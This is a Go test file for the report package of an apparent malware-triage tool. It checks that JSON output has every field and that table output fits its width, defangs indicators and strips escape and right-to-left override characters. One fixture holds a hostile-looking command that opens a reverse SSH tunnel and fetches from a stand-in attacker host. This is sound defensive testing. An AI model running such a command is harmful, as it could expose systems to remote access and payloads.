package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"lurehound"
)

// Of an empty file every name of the contract is there, no list is null, and a time that is not known is.
func TestTriageContract(t *testing.T) {
	var out bytes.Buffer
	if err := Triage(&out, "jsonl", &Triaged{File: "a"}, Options{}); err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	for _, path := range strings.Fields(`file sha256 sha1 md5 size type imphash authentihash tlsh ssdeep signature.present signature.digest signature.signer
		signature.issuer signature.serial signature.thumbprint signature.chain signature.timestamp indicators.ips indicators.domains indicators.urls
		indicators.commands indicators.services indicators.files indicators.private_keys contains reference.verdict reference.differences signals`) {
		outer, inner, nested := strings.Cut(path, ".")
		v, ok := got[outer]
		if nested {
			v, ok = v.(map[string]any)[inner]
		}
		if !ok || (v == nil) != (inner == "timestamp") {
			t.Errorf("%s is %v, there: %v", path, v, ok)
		}
	}
}

// The page holds its width, says what was not read, folds what is many, and leads nobody anywhere.
func TestTriagePage(t *testing.T) {
	f := lurehound.PayloadFacts{Name: "x\x1b[31m", Type: lurehound.TypePE, Problems: []string{"it was not taken apart: out of memory: more than 512 MiB"}}
	f.Found = lurehound.Indicators{Commands: []string{"ssh -R 1:a:2 u@203.0.113.7 & curl http://bad.example.com/x", strings.Repeat("z", 300)}, Domains: []string{"bad.example.com"}}
	for i := range 30 {
		f.Contains = append(f.Contains, lurehound.ContainedFile{Name: fmt.Sprintf("\u202efile%d.exe", i), Type: lurehound.TypePE, SHA256: strings.Repeat("a", 64)})
	}
	f.Signals = []lurehound.Signal{{Rule: "b", Points: 90, Why: "second"}, {Rule: "a", Points: 60, Direct: true, Why: "first"}}
	for _, width := range []int{40, 60, 100} {
		var out bytes.Buffer
		if err := Triage(&out, "table", &Triaged{File: "x\x1b[31m.exe", Facts: f, NotRead: true}, Options{Width: width}); err != nil {
			t.Fatal(err)
		}
		s := out.String()
		for l := range strings.Lines(s) {
			if n := columns(strings.TrimRight(l, "\n")); n >= width {
				t.Errorf("width %d: %d columns: %s", width, n, l)
			}
		}
		flat := strings.Join(strings.Fields(s), " ")
		for _, want := range []string{"Not taken apart", "and 10 more", "out of memory", "203.0.113[.]7", "bad.example[.]com"} {
			if !strings.Contains(flat, want) {
				t.Errorf("width %d: no %q in\n%s", width, want, s)
			}
		}
		if slices.ContainsFunc([]string{"\x1b", "\u202e", "203.0.113.7", "http://", "bad.example.com"}, func(bad string) bool { return strings.Contains(s, bad) }) {
			t.Errorf("width %d: foreign text steers or leads somewhere:\n%s", width, s)
		}
		if strings.Index(s, "first") > strings.Index(s, "second") {
			t.Error("the gravest is not first")
		}
	}
}
